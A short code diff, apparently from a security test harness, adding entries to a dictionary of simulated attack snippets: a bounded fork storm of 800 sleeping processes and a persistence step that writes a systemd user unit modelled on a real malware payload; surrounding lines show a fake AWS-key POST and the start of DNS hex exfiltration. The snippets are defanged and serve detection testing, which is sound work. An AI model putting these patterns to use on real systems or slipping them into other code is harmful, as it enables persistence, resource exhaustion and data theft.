@@ -71,6 +71,26 @@ ATTACKS = {
         conn.request("POST", "/c", body=b"aws_access_key_id=AKIAIOSFODNN7EXAMPLE&x=1")
         conn.getresponse().read()
     """),
+    # A fork storm, bounded so the test machine survives: 800 sleepers, as fast as possible.
+    "storm": textwrap.dedent("""
+        import os, subprocess, time
+        marker = os.path.join(os.environ.get("HOME", "/tmp"), "storm-started")
+        with open(marker, "w") as handle:
+            handle.write(repr(time.time()))
+        children = []
+        for _ in range(800):
+            children.append(subprocess.Popen(["sleep", "20"]))
+        for child in children:
+            child.wait()
+    """),
+    # Persistence: a systemd user unit, as the LiteLLM payload's sysmon.service.
+    "persistence": textwrap.dedent("""
+        import os
+        units = os.path.join(os.environ["HOME"], ".config", "systemd", "user")
+        os.makedirs(units, exist_ok=True)
+        with open(os.path.join(units, "egl-sysmon.service"), "w") as handle:
+            handle.write("[Service]\\nExecStart=/usr/bin/true\\nRestart=always\\n")
+    """),
     # Data smuggled out in DNS query names, hex-encoded, one chunk per query.
     "dns-hex": textwrap.dedent("""
         import os, socket, time
